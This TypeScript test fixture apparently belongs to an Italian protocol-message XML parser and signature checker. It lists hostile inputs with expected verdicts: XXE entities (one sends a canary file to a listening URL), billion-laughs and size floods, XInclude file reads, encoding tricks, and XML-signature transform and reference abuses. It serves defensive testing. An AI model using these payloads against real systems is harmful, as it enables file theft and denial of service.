import type { ProblemCode } from '../../../src/kernel/problems.ts';
import type { Generation } from '../../../src/model/segnatura.ts';
import { MESSAGE } from '../seal/workbench.ts';
import { wrappings } from './wrappings.ts';

/** What an attack may use: a listening server, a file that must not be read, a message with a valid seal. */
export interface Means {
  readonly url: string;
  readonly canary: string;
  readonly sealed: string;
}

export interface Hostile {
  readonly name: string;
  /** The code that names it; null where there is nothing to name. */
  readonly code: ProblemCode | null;
  /**
   * `refused`: not read as XML. `invalid`: read, outside its grammar. `no-seal`: the seal is not believed.
   * `named`: read, with a problem. `harmless`: read, and what it points at is ignored, as in any lawful message.
   */
  readonly verdict: 'refused' | 'invalid' | 'no-seal' | 'named' | 'harmless';
  readonly make: (means: Means) => string | Uint8Array;
  /** Large ones are judged in a process of their own. */
  readonly large?: true;
}

const ID =
  '<Identificatore><CodiceAmministrazione>c_e001</CodiceAmministrazione><CodiceAOO>AOO1</CodiceAOO>' +
  '<NumeroRegistrazione>0000001</NumeroRegistrazione><DataRegistrazione>2024-05-06</DataRegistrazione></Identificatore>';

/** A message that is valid except for what is put into it. */
export const annulment = (prolog = '', reason = 'errore', attributes = ''): string =>
  `${prolog}<AnnullamentoProtocollazione${attributes}>${ID}<Motivo>${reason}</Motivo>` +
  '<Provvedimento>atto 1</Provvedimento></AnnullamentoProtocollazione>';
const declared = (encoding: string): string => annulment(`<?xml version="1.0" encoding="${encoding}"?>`);
const subset = (declarations: string, reason = '&e;'): string =>
  annulment(`<!DOCTYPE AnnullamentoProtocollazione [${declarations}]>`, reason);
const many = (count: number, make: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => make(index)).join('');
const utf32 = (text: string, littleEndian: boolean, mark: boolean): Buffer => {
  const codes = [...(mark ? `\ufeff${text}` : text)].map((character) => character.codePointAt(0) ?? 0);
  const bytes = Buffer.alloc(codes.length * 4);
  codes.forEach((code, index) => {
    if (littleEndian) bytes.writeUInt32LE(code, index * 4);
    else bytes.writeUInt32BE(code, index * 4);
  });
  return bytes;
};
/** The reason is `x`; it is replaced by these octets. */
const withOctets = (octets: readonly number[], prolog = '<?xml version="1.0" encoding="UTF-8"?>'): Buffer => {
  const [before = '', after = ''] = annulment(prolog, '|').split('|');
  return Buffer.concat([Buffer.from(before), Buffer.from(octets), Buffer.from(after)]);
};
const XI = 'xmlns:xi="http://www.w3.org/2001/XInclude"';

const ENTITIES: readonly Hostile[] = (
  [
    ['an internal entity', () => subset('<!ENTITY e "testo">')],
    ['an external entity over the network', ({ url }) => subset(`<!ENTITY e SYSTEM "${url}/e">`)],
    ['an external entity from a file', ({ canary }) => subset(`<!ENTITY e SYSTEM "${canary}">`)],
    ['an external entity by its public name', ({ url }) => subset(`<!ENTITY e PUBLIC "-//x" "${url}/e">`)],
    [
      'an unparsed entity',
      ({ canary }) => subset(`<!NOTATION n SYSTEM "x"><!ENTITY e SYSTEM "${canary}" NDATA n>`, 'x'),
    ],
    ['a parameter entity', ({ url }) => subset(`<!ENTITY % p SYSTEM "${url}/p"> %p;`, 'x')],
    [
      'a parameter entity that sends a file away',
      ({ url, canary }) =>
        subset(`<!ENTITY % f SYSTEM "${canary}"><!ENTITY % d "<!ENTITY &#x25; s SYSTEM '${url}/?%f;'>">%d;%s;`, 'x'),
    ],
    ['an internal subset after remarks', () => `<!-- [ --><?p ?>\n${subset('<!ELEMENT a ANY>', 'x')}`],
    ['defaults for attributes', () => subset('<!ATTLIST AnnullamentoProtocollazione x CDATA "y">', 'x')],
    [
      'billion laughs',
      () => subset(`<!ENTITY e0 "ah">${many(12, (n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`)}`, '&e12;'),
    ],
    ['entities that contain each other', () => subset('<!ENTITY e "&f;"><!ENTITY f "&e;">')],
  ] satisfies [string, Hostile['make']][]
).map(([name, make]) => ({ name, code: 'xml-doctype-internal', verdict: 'refused', make }));

const REFERENCES: readonly Hostile[] = [
  {
    name: 'quadratic blow-up',
    code: 'xml-doctype-internal',
    verdict: 'refused',
    large: true,
    make: () => subset(`<!ENTITY e "${'x'.repeat(2_000_000)}">`, '&e;'.repeat(900_000)),
  },
  { name: 'an empty internal subset', code: 'segnatura-repaired', verdict: 'named', make: () => subset('', 'x') },
  {
    name: 'an entity nobody declares',
    code: 'segnatura-repaired',
    verdict: 'named',
    make: () => annulment('', '&egrave;'),
  },
  {
    name: 'an entity of a grammar elsewhere',
    code: 'segnatura-repaired',
    verdict: 'named',
    make: ({ url }) => annulment(`<!DOCTYPE AnnullamentoProtocollazione SYSTEM "${url}/d.dtd">`, '&e;'),
  },
  {
    name: 'a grammar elsewhere',
    code: null,
    verdict: 'harmless',
    make: ({ url }) => annulment(`<!DOCTYPE AnnullamentoProtocollazione SYSTEM "${url}/d.dtd">`),
  },
  {
    name: 'a grammar that is a file',
    code: null,
    verdict: 'harmless',
    make: ({ canary }) => annulment(`<!DOCTYPE AnnullamentoProtocollazione SYSTEM "${canary}">`),
  },
  {
    name: 'a style sheet and a catalogue elsewhere',
    code: 'segnatura-invalid',
    verdict: 'invalid',
    make: ({ url }) =>
      annulment(`<?xml-stylesheet href="${url}/x"?><?oasis-xml-catalog catalog="${url}/c"?>`, '<altro/>'),
  },
  {
    name: 'a schema elsewhere',
    code: 'segnatura-invalid',
    verdict: 'invalid',
    make: ({ url }) =>
      '<ConfermaRicezione xmlns="http://www.agid.gov.it/protocollo/pec/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"' +
      ` xsi:schemaLocation="http://www.agid.gov.it/protocollo/pec/ ${url}/s.xsd" xsi:noNamespaceSchemaLocation="${url}/n"/>`,
  },
  {
    name: 'XInclude of a file as text',
    code: 'segnatura-invalid',
    verdict: 'invalid',
    make: ({ canary }) => annulment('', `<xi:include ${XI} href="${canary}" parse="text"/>`),
  },
  {
    name: 'XInclude over the network',
    code: 'segnatura-invalid',
    verdict: 'invalid',
    make: ({ url }) => annulment('', `<xi:include ${XI} href="${url}/i"><xi:fallback>x</xi:fallback></xi:include>`),
  },
  {
    name: 'XInclude where the grammar leaves everything open',
    code: 'seal-position',
    verdict: 'no-seal',
    make: ({ sealed, canary }) =>
      sealed.replace(
        '</ds:Signature>',
        `<ds:Object><xi:include ${XI} href="${canary}" parse="text"/></ds:Object></ds:Signature>`,
      ),
  },
];

/** Read with repairs, or refused: those in which markup hides behind letters. */
const HIDING = /^(?:UTF-7|EBCDIC)/;
/** With its mark UTF-16 is lawful, and read like any other. */
const LAWFUL = /^UTF-16, (?:little|big)-endian$/;
const ENCODINGS: readonly Hostile[] = (
  [
    ['UTF-16, little-endian', () => Buffer.from(`\ufeff${annulment()}`, 'utf16le')],
    ['UTF-16, big-endian', () => Buffer.from(`\ufeff${annulment()}`, 'utf16le').swap16()],
    ['UTF-16 without mark', () => Buffer.from(annulment(), 'utf16le')],
    ['UTF-16, big-endian, without mark', () => Buffer.from(annulment(), 'utf16le').swap16()],
    ['UTF-16 by name only', () => declared('UTF-16')],
    ['UTF-32, little-endian', () => utf32(annulment(), true, true)],
    ['UTF-32, big-endian', () => utf32(annulment(), false, true)],
    ['UTF-32 without mark', () => utf32(annulment(), true, false)],
    ['UTF-32, big-endian, without mark', () => utf32(annulment(), false, false)],
    ['UTF-32 by name only', () => declared('UTF-32')],
    ['UTF-7 by name', () => declared('UTF-7').replace('errore', '+ADw-altro/+AD4-')],
    ['UTF-7 by its mark', () => `+/v8-${annulment()}`],
    ['EBCDIC', () => Buffer.from([0x4c, 0x6f, 0xa7, 0x94, 0x93, 0x40, 0xa5])],
    ['EBCDIC by name', () => declared('IBM037')],
    ['an encoding that shifts', () => declared('ISO-2022-JP')],
    ['an encoding nobody knows', () => declared('x-altro')],
  ] satisfies [string, Hostile['make']][]
).map(
  ([name, make]): Hostile =>
    HIDING.test(name)
      ? { name, code: 'xml-encoding-unsupported', verdict: 'refused', make }
      : {
          name,
          code: LAWFUL.test(name) ? 'segnatura-header-incomplete' : 'segnatura-repaired',
          verdict: 'named',
          make,
        },
);

/** Real mail declares UTF-8 and is ISO-8859-1, so such octets are read as letters, never as markup, with a problem. */
const OCTETS: readonly Hostile[] = (
  [
    ['invalid UTF-8', [0xff, 0xfe]],
    ['UTF-8 cut off', [0xe2, 0x82]],
    ['an overlong «<»', [0xc0, 0xbc]],
    ['an overlong «<» in three octets', [0xe0, 0x80, 0xbc]],
    ['an overlong NUL', [0xc0, 0x80]],
    ['surrogates in UTF-8', [0xed, 0xa0, 0x80, 0xed, 0xb0, 0x80]],
    ['a character past the last', [0xf4, 0x90, 0x80, 0x80]],
  ] as const
).flatMap(([name, octets]): Hostile[] => [
  { name, code: 'xml-encoding', verdict: 'named', make: () => withOctets(octets) },
  {
    name: `${name} under a seal`,
    code: 'xml-encoding',
    verdict: 'no-seal',
    make: ({ sealed }) => {
      const [before = '', after = ''] = sealed.split('Verifica');
      return Buffer.concat([Buffer.from(before), Buffer.from(octets), Buffer.from(after)]);
    },
  },
]);

const refused = (name: string, code: ProblemCode, make: Hostile['make']): Hostile => ({
  name,
  code,
  verdict: 'refused',
  make,
  large: true,
});
const SIZES: readonly Hostile[] = [
  refused('100,000 levels', 'xml-too-deep', () => '<a>'.repeat(100_000) + '</a>'.repeat(100_000)),
  refused('90,000 levels in a message', 'xml-too-deep', () =>
    annulment('', '<a>'.repeat(90_000) + '</a>'.repeat(90_000)),
  ),
  refused('100,000 levels never closed', 'xml-too-deep', () => '<Segnatura>'.repeat(100_000)),
  refused('1 million attributes', 'xml-too-many', () => `<a ${'a="" '.repeat(1_000_000)}/>`),
  refused('200,000 attributes of their own names', 'xml-too-many', () =>
    annulment(
      '',
      'x',
      many(200_000, (index) => ` a${index}="b"`),
    ),
  ),
  refused('300 attributes', 'xml-too-many', () =>
    annulment(
      '',
      'x',
      many(300, (index) => ` a${index}="b"`),
    ),
  ),
  refused('many attributes on many elements', 'xml-too-many', () =>
    annulment('', `<a ${many(200, (index) => `a${index}="" `)}/>`.repeat(2_500)),
  ),
  refused('attributes that hide their sign', 'xml-too-many', () =>
    annulment('', `<a ${many(200, (index) => `a${index} = "" `)}/>`.repeat(1_500)),
  ),
  refused('200,000 namespaces', 'xml-too-many', () =>
    annulment(
      '',
      'x',
      many(200_000, (index) => ` xmlns:a${index}="b"`),
    ),
  ),
  refused('1 million elements', 'xml-too-many', () => annulment('', '<a/>'.repeat(1_000_000))),
  refused('elements by the limit', 'xml-too-many', () => annulment('', '<a/>'.repeat(99_997))),
  refused('open angles', 'xml-too-many', () => '<'.repeat(4_000_000)),
  refused('50 MB', 'xml-too-large', () => annulment('', 'x'.repeat(50_000_000))),
  refused('50 MB of blanks', 'xml-too-large', () => ' '.repeat(50_000_000)),
  refused('one byte more than allowed', 'xml-too-large', () => Buffer.alloc(5 * 1024 * 1024 + 1, annulment())),
  refused('unclosed comments', 'xml-malformed', () => `<a>${'<!--'.repeat(1_000_000)}`),
  refused('unclosed sections', 'xml-malformed', () => `<a>${'<![CDATA['.repeat(500_000)}`),
  refused('isolated ampersands', 'xml-malformed', () => `<a>${'&'.repeat(4_000_000)}</a>`),
  refused('unclosed references', 'xml-malformed', () => `<a>${'&a'.repeat(2_000_000)};</a>`),
  refused('a long reference', 'xml-malformed', () => `<a>&#${'9'.repeat(4_000_000)};</a>`),
  refused('a long declaration', 'xml-too-many', () => `<?xml ${'version="1.0" '.repeat(300_000)}`),
  refused('a long name', 'xml-malformed', () => `<${'a'.repeat(4_000_000)}`),
  refused('a long doctype', 'xml-malformed', () => `<!DOCTYPE a SYSTEM "${'x'.repeat(4_000_000)}`),
  refused('white space', 'xml-malformed', () => ' '.repeat(4_000_000)),
];

const DS = 'http://www.w3.org/2000/09/xmldsig#';
const addedTransform =
  (algorithm: string, inside: string) =>
  ({ sealed }: Means) =>
    sealed.replace(
      '</ds:Transforms>',
      `<ds:Transform Algorithm="${algorithm}">${inside}</ds:Transform></ds:Transforms>`,
    );
const addedReference =
  (uri: string) =>
  ({ sealed }: Means) =>
    sealed.replace(
      '</ds:SignedInfo>',
      `<ds:Reference URI="${uri}"><ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/>` +
        '<ds:DigestValue>47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=</ds:DigestValue></ds:Reference></ds:SignedInfo>',
    );

/** Refused for what they ask, before any of it is done. */
const SEALS: readonly Hostile[] = (
  [
    [
      'an XSLT transform',
      'seal-algorithm',
      (means) =>
        addedTransform(
          'http://www.w3.org/TR/1999/REC-xslt-19991116',
          '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/">' +
            `<xsl:copy-of select="document('${means.canary}')"/></xsl:template></xsl:stylesheet>`,
        )(means),
    ],
    [
      'an XPath transform',
      'seal-algorithm',
      addedTransform('http://www.w3.org/TR/1999/REC-xpath-19991116', '<ds:XPath>count(//*//*//*) &gt; 0</ds:XPath>'),
    ],
    [
      'an XPath filter',
      'seal-algorithm',
      addedTransform(
        'http://www.w3.org/2002/06/xmldsig-filter2',
        '<f:XPath xmlns:f="http://www.w3.org/2002/06/xmldsig-filter2" Filter="subtract">/*</f:XPath>',
      ),
    ],
    ['a base64 transform', 'seal-algorithm', addedTransform(`${DS}base64`, '')],
    [
      'HMAC in place of a key of its own',
      'seal-algorithm',
      ({ sealed }) => sealed.replace('http://www.w3.org/2001/04/xmldsig-more#rsa-sha256', `${DS}hmac-sha1`),
    ],
    ['a reference over the network', 'seal-coverage', (means) => addedReference(`${means.url}/r`)(means)],
    ['a reference to a file', 'seal-coverage', (means) => addedReference(means.canary)(means)],
    ['an XPointer', 'seal-coverage', addedReference('#xpointer(/)')],
    [
      'a certificate over the network',
      'seal-modified',
      ({ sealed, url }) =>
        sealed.replace(
          /<ds:X509Data>[\s\S]*<\/ds:X509Data>/,
          `<ds:RetrievalMethod URI="${url}/c" Type="${DS}X509Data"/>`,
        ),
    ],
    [
      'a grammar elsewhere under a seal',
      'seal-unreadable',
      ({ sealed, url }) => sealed.replace('?>', `?><!DOCTYPE prot:SegnaturaInformatica SYSTEM "${url}/d.dtd">`),
    ],
  ] satisfies [string, ProblemCode, Hostile['make']][]
).map(([name, code, make]) => ({ name, code, verdict: 'no-seal', make }));

const WRAPPED: readonly Hostile[] = wrappings(MESSAGE).map(({ name, code, build }) => ({
  name: `a seal moved ${name}`,
  // An entity nobody declares is repaired, and no seal holds over that.
  code: code === 'xml-entity' ? 'segnatura-repaired' : code,
  verdict: code.startsWith('xml-') && code !== 'xml-entity' ? 'refused' : 'no-seal',
  make: ({ sealed }) => build(sealed),
}));

export const HOSTILE: readonly Hostile[] = [
  ...ENTITIES,
  ...REFERENCES,
  ...ENCODINGS,
  ...OCTETS,
  ...SIZES,
  ...SEALS,
  ...WRAPPED,
];

/** Valid counterparts, which show that the others are not refused for some other oddity. */
export const ORDINARY: readonly [Generation, string][] = [
  ['2001', annulment('<?xml version="1.0" encoding="UTF-8"?>')],
  ['2001', annulment('<!DOCTYPE AnnullamentoProtocollazione SYSTEM "Segnatura.dtd">')],
];
